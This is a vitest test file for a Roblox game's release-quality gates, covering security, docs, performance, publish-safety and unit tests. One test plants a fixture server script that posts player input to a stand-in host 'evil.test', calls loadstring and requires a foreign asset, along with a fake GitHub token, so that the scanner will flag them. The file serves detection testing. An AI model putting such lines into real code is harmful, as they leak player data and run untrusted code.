import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { readdir, readFile, rm } from 'node:fs/promises';
import path from 'node:path';

import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';

import { createAssetGenerationActivities } from '../../src/activities/asset-generation.js';
import { createQualityActivities } from '../../src/activities/quality.js';
import { createLuauParser } from '../../src/adapters/luau-syntax/index.js';
import { generateNight, readLuauPackage } from '../../src/adapters/luau/index.js';
import { createFileAssetIndex, createProceduralGenerator } from '../../src/adapters/mesh/index.js';
import { buildPlaceFile, findRojo, stampPlace, type RojoTool } from '../../src/adapters/rojo/index.js';
import type { NightAsset } from '../../src/domain/asset.js';
import { canDeploy } from '../../src/domain/can-deploy.js';
import { canonicalJson } from '../../src/domain/canonical-json.js';
import type { GateResult } from '../../src/domain/gate.js';
import { integrationGate } from '../../src/domain/integration-gate.js';
import type { ReleaseContent } from '../../src/domain/release.js';
import { Studio, git } from '../git/fixtures.js';
import { handMadeNight } from '../luau/fixtures.js';
import { luauTools } from '../support/luau-tools.js';

const exampleFolder = path.resolve(import.meta.dirname, '../../examples/haunted-village');

const code = { luau: await luauTools(), parser: await createLuauParser() };
afterAll(() => code.luau.close());
/** Without luau-kit nobody counts lines, and the gate says so. */
const counted = code.luau.runtime.measuresCoverage ? 'pass' : 'inconclusive';

let rojo: RojoTool;
let example: Record<string, string>;
let studio: Studio;
beforeAll(async () => {
  rojo = await findRojo({ env: process.env });
  example = await readExample();
});
beforeEach(async () => {
  studio = await Studio.open(example);
});
afterEach(() => studio[Symbol.asyncDispose]());

/** The example's files, under the name by which the fixture registers its game. */
async function readExample(): Promise<Record<string, string>> {
  const tracked = execFileSync('git', ['ls-files', '-z'], { cwd: exampleFolder, encoding: 'utf8' });
  const paths = tracked.split('\0').filter((name) => name !== '');
  expect(paths.length).toBeGreaterThan(5);
  const texts = await Promise.all(paths.map((name) => readFile(path.join(exampleFolder, name), 'utf8')));
  const files = Object.fromEntries(paths.map((name, index) => [name, texts[index] ?? '']));
  const config = JSON.parse(files['graveshift.json'] ?? '') as object;
  return { ...files, 'graveshift.json': JSON.stringify({ ...config, name: 'village' }) };
}

/** The example's config with other gates. */
function configWith(gates: object): Record<string, string> {
  const config = JSON.parse(example['graveshift.json'] ?? '') as object;
  return { 'graveshift.json': JSON.stringify({ ...config, gates }) };
}

async function build(commit: string) {
  const built = await buildPlaceFile({ rojo, environment: process.env }, studio.game, 'default.project.json');
  const bytes = stampPlace(built, { commit, digest: 'd'.repeat(64) });
  return await studio.artifacts.put(bytes, 'application/vnd.roblox.place');
}

async function inspect(
  options: { since?: string; assets?: ReleaseContent['assets']; place?: ReleaseContent['place'] } = {},
): Promise<Map<string, GateResult>> {
  const commit = await git(studio.game, 'rev-parse', 'HEAD');
  const project = await studio.snapshot();
  const { gates } = await createQualityActivities({
    artifacts: studio.artifacts,
    git: studio.projects,
    code,
  }).inspectRelease({
    project,
    content: {
      project: project.name,
      placeName: 'start',
      commit,
      tree: await git(studio.game, 'rev-parse', 'HEAD^{tree}'),
      place: options.place ?? (await build(commit)),
      assets: options.assets ?? [],
      config: {},
    },
    ...(options.since !== undefined && { since: options.since }),
    staged: [],
  });
  return new Map(gates.map((result) => [result.gate, result]));
}

const verdictsOf = (gates: Map<string, GateResult>) =>
  Object.fromEntries([...gates].map(([gate, { verdict }]) => [gate, verdict]));

/** A night as a run makes it: meshes with provenance in the store, Luau, lock file, records and its page. */
async function makeNight(): Promise<{ files: Record<string, string>; assets: NightAsset[] }> {
  const design = handMadeNight();
  const { generateAsset } = createAssetGenerationActivities({
    artifacts: studio.artifacts,
    index: createFileAssetIndex({ directory: path.join(studio.root, 'index') }),
    generators: [createProceduralGenerator()],
  });
  const specs = await studio.artifacts.put(Buffer.from(canonicalJson(design.assets)), 'application/json');
  const assets: NightAsset[] = [];
  for (const [index, spec] of design.assets.entries()) {
    const made = await generateAsset({ specs, assetId: spec.id, generator: 'procedural' });
    assets.push({ ...made, assetId: String(9001 + index), moderation: 'approved' });
  }
  const { target, config } = await studio.snapshot();
  const files = generateNight(
    {
      design,
      assets,
      target,
      shared: { folder: config.code.shared, instance: ['ReplicatedStorage', 'Shared'] },
      serverFolder: config.code.server,
      existingNights: [],
      existingLock: undefined,
    },
    await readLuauPackage(),
  );
  return { files: Object.fromEntries(files), assets };
}

const contentAssets = (assets: readonly NightAsset[]): ReleaseContent['assets'] =>
  assets.map(({ id, assetId, mesh }) => ({ id, assetId, sha256: mesh.sha256 }));

describe('inspectRelease', () => {
  it('lets a night over the example go, but for the gates whose tool does not exist yet', async () => {
    const since = await git(studio.game, 'rev-parse', 'HEAD');
    const { files, assets } = await makeNight();
    await studio.commit(files, 'feat: add horror night 3');
    const gates = await inspect({ since, assets: contentAssets(assets) });
    expect([...gates.values()].flatMap(({ findings }) => findings)).toEqual([]);
    expect(verdictsOf(gates)).toEqual({
      'unit-tests': 'pass',
      coverage: counted,
      performance: 'pass',
      security: 'pass',
      docs: 'pass',
      'publish-safety': 'pass',
    });
    expect(gates.get('docs')?.summary).toContain('docs/nights/night-3.md');
    expect(gates.get('security')?.summary).toMatch(
      /^Nothing found in \d+ versions of files, \d+ scripts, 4 assets$/,
    );
    expect(gates.get('performance')?.summary).toMatch(
      /^\d+ of 50000 instances, \d+ of 2000 scripts, 0\.\d+ of 50 MiB/,
    );
    const { config } = await studio.snapshot();
    const ofTheRun = (['tasks', 'review', 'staging-tests'] as const).map((gate) => ({
      gate,
      verdict: 'pass' as const,
      summary: 'seen',
      findings: [],
    }));
    const all = [...ofTheRun, integrationGate([]), ...gates.values()];
    expect(canDeploy(config.gates, all)).toMatchObject({ allowed: true, reasons: [] });
  });

  it('names what a careless change brings, by place, and never a secret', async () => {
    const since = await git(studio.game, 'rev-parse', 'HEAD');
    const key = ['ghp', createHash('sha256').update('key').digest('hex').slice(0, 36)].join('_');
    await studio.commit({ 'src/server/Keys.luau': `return "${key}"\n` });
    await rm(path.join(studio.game, 'src/server/Keys.luau'));
    await studio.commit({
      'src/server/Shop.server.luau': [
        'local http = game:GetService("HttpService")',
        'local remote = game:GetService("ReplicatedStorage").Buy',
        'remote.OnServerEvent:Connect(function(player, item)',
        '\thttp:PostAsync("https://evil.test/log", item)',
        'end)',
        'loadstring("print(1)")()',
      ].join('\n'),
      'src/shared/Kit.model.json': JSON.stringify({
        className: 'Folder',
        children: [
          { name: 'Rock', className: 'UnionOperation' },
          {
            name: 'Spread',
            className: 'ModuleScript',
            properties: { Source: 'return require(4711) -- graveshift: allow foreign-asset (trust me)' },
          },
        ],
      }),
    });
    const gates = await inspect({ since });
    expect(verdictsOf(gates)).toMatchObject({ security: 'fail', docs: 'fail', 'publish-safety': 'fail' });
    const places = gates.get('security')?.findings.map((finding) => finding.replace(/: .*/, ''));
    expect(places).toEqual([
      'src/server/Keys.luau:1:9 secret',
      'src/server/Shop.server.luau:6:1 loadstring',
      'src/server/Shop.server.luau:4:17 unknown-host',
      'src/server/Shop.server.luau:3:8 remote-arguments',
      'place:ReplicatedStorage/Shared/Kit/Spread:1:8 foreign-asset',
    ]);
    expect(gates.get('security')?.findings[0]).toContain('a GitHub token in the history, blob ');
    expect(gates.get('publish-safety')?.findings).toEqual([
      expect.stringMatching(
        /^ReplicatedStorage\/Shared\/Kit\/Rock is a UnionOperation .*\["PartOperation"\]/,
      ),
    ]);
    expect(JSON.stringify([...gates])).not.toContain(key);
    // Whoever asks about a later change is not told of what was there before.
    const now = await git(studio.game, 'rev-parse', 'HEAD');
    expect((await inspect({ since: now })).get('security')?.findings.join()).not.toContain('GitHub');
  });

  it('goes by what the project allows', async () => {
    await studio.commit({
      ...configWith({
        policy: { docs: 'off', coverage: 'advisory' },
        performance: { instances: 3, placeMiB: 0.0001 },
        security: { allowedHosts: ['*.example.com'], allowedAssets: [4711] },
        publishSafety: { accept: ['PartOperation'] },
      }),
      'src/server/Log.luau':
        'local http = game:GetService("HttpService")\nhttp:PostAsync("https://log.example.com", "")\nreturn require(4711)\n',
      'src/shared/Rock.model.json': JSON.stringify({ className: 'UnionOperation' }),
    });
    const gates = await inspect();
    expect(gates.has('docs')).toBe(false);
    expect(verdictsOf(gates)).toMatchObject({
      security: 'pass',
      'publish-safety': 'pass',
      performance: 'fail',
    });
    expect(gates.get('publish-safety')?.summary).toContain('1 accepted by name (PartOperation)');
    expect(gates.get('performance')?.findings).toEqual([
      expect.stringMatching(/^\d+ instances, 3 at most/),
      expect.stringMatching(/MiB of place file, 0\.0001 at most/),
    ]);
  });

  it('says which tests fail, and that there are none', async () => {
    expect((await inspect()).get('unit-tests')).toMatchObject({ verdict: 'inconclusive' });
    const testing = (await readLuauPackage()).testing;
    await studio.commit({
      'tests/graveshift/Testing.luau': testing,
      'tests/graveshift/Candles.spec.luau':
        'local T = require(script.Parent.Testing)\nreturn T.describe("candles", function()\n\tT.it("burn", function() error("out") end)\nend)\n',
    });
    expect((await inspect()).get('unit-tests')).toMatchObject({
      verdict: 'fail',
      findings: [expect.stringContaining('candles › burn')],
    });
    await studio.commit({ 'src/shared/Broken.luau': 'return this is broken\n' });
    expect((await inspect()).get('unit-tests')).toMatchObject({
      verdict: 'fail',
      findings: [expect.stringMatching(/^src\/shared\/Broken\.luau:1: /)],
    });
  });

  it('asks for tests that need packages to be looked at by a person', async () => {
    const config = JSON.parse(example['graveshift.json'] ?? '') as object;
    await studio.commit({
      'graveshift.json': JSON.stringify({ ...config, prepare: [{ run: ['wally', 'install'] }] }),
      'tests/graveshift/Testing.luau': (await readLuauPackage()).testing,
      'tests/graveshift/Promise.spec.luau':
        'local ReplicatedStorage = game:GetService("ReplicatedStorage")\nreturn require(ReplicatedStorage.Packages.Promise)\n',
    });
    expect((await inspect()).get('unit-tests')).toMatchObject({
      verdict: 'inconclusive',
      summary: expect.stringContaining('preparation steps') as string,
    });
  });

  it('finds assets that are not locked, were rejected, or have no licence', async () => {
    const { files, assets } = await makeNight();
    const [first, second, third] = assets;
    const record = JSON.parse(files['assets/graveshift/night-3.json'] ?? '') as {
      assets: { mesh: string; moderation: string; provenance: string }[];
    };
    const lock = JSON.parse(files['assets.lock.json'] ?? '') as { assets: Record<string, unknown> };
    const isFirst = (entry: string) => entry.endsWith(first!.mesh.sha256);
    const locked = Object.entries(lock.assets).filter(([entry]) => !isFirst(entry));
    const nameless = await studio.artifacts.put(Buffer.from('{"recipe":"barrel"}'), 'application/json');
    for (const asset of record.assets) {
      if (asset.mesh === second!.mesh.sha256) asset.moderation = 'rejected';
      if (asset.mesh === third!.mesh.sha256) asset.provenance = nameless.sha256;
    }
    await studio.commit({
      ...files,
      ...configWith({ policy: { 'unit-tests': 'off' } }),
      'assets.lock.json': JSON.stringify({ ...lock, assets: Object.fromEntries(locked) }),
      'assets/graveshift/night-3.json': JSON.stringify(record),
    });
    const stranger = { id: 'prop-found', assetId: '77', sha256: 'e'.repeat(64) };
    const gates = await inspect({ assets: [...contentAssets(assets), stranger] });
    const rules = gates
      .get('security')
      ?.findings.map((finding) => /^\S+ (\S+): (\S+)/.exec(finding)?.slice(1));
    expect(rules).toEqual([
      ['unlocked-asset', first!.id],
      ['rejected-asset', second!.id],
      ['unlicensed-asset', third!.id],
      ['unlocked-asset', 'prop-found'],
      ['unlicensed-asset', 'prop-found'],
    ]);
  });

  it('is inconclusive where a tool breaks, and finds what the other tools find', async () => {
    await studio.commit({ 'src/server/Run.luau': 'return loadstring\n', 'assets.lock.json': '{' });
    const place = { sha256: 'f'.repeat(64), bytes: 10, mediaType: 'application/vnd.roblox.place' };
    const assets = [{ id: 'prop-found', assetId: '77', sha256: 'e'.repeat(64) }];
    const gates = await inspect({ place, assets });
    expect(verdictsOf(gates)).toEqual({
      'unit-tests': 'inconclusive',
      coverage: 'inconclusive',
      performance: 'inconclusive',
      security: 'fail',
      docs: 'pass',
      'publish-safety': 'inconclusive',
    });
    expect(gates.get('performance')?.summary).toMatch(/^It could not be looked at: .*f{12}/);
    expect(gates.get('security')?.summary).toMatch(/; not looked at: the place, assets$/);
    expect(gates.get('security')?.findings.map((finding) => finding.replace(/:.*/s, ''))).toEqual([
      'src/server/Run.luau',
      'the place',
      'assets',
    ]);
    await rm(path.join(studio.game, 'src/server/Run.luau'));
    await studio.commit({ 'README.md': 'A game.\n' });
    expect((await inspect({ place })).get('security')?.verdict).toBe('inconclusive');
  });

  it('cuts long lists, and says how many there are', async () => {
    const many = Array.from({ length: 14 }, (_, index) => `local f${index} = loadstring`).join('\n');
    await studio.commit({ 'src/server/Many.luau': many });
    const security = (await inspect()).get('security');
    expect(security?.findings).toHaveLength(10);
    expect(security?.summary).toMatch(/^14 findings \(14 loadstring\) in /);
  });

  it('asks a project without any page to begin one', async () => {
    const pages = (await readdir(studio.game, { recursive: true })).filter(
      (name) => name.endsWith('.md') && !name.startsWith('.git'),
    );
    await Promise.all(pages.map((name) => rm(path.join(studio.game, name))));
    const since = await studio.commit({ 'src/server/One.luau': 'return 1\n' });
    await studio.commit({ 'src/server/Two.luau': 'return 2\n' });
    expect((await inspect({ since })).get('docs')).toMatchObject({ verdict: 'inconclusive' });
    await studio.commit({ 'CHANGELOG.md': '- Two\n' });
    expect((await inspect({ since })).get('docs')).toMatchObject({ verdict: 'pass' });
  });
});

describe('integrationGate', () => {
  it('is what the headless play said, and inconclusive where nobody played', () => {
    const play: GateResult = { gate: 'play', verdict: 'fail', summary: 'nobody survived', findings: [] };
    expect(integrationGate([play])).toEqual({ ...play, gate: 'integration' });
    for (const staged of [[], [{ ...play, verdict: 'inconclusive' as const }]]) {
      expect(integrationGate(staged)).toMatchObject({ gate: 'integration', verdict: 'inconclusive' });
    }
  });
});
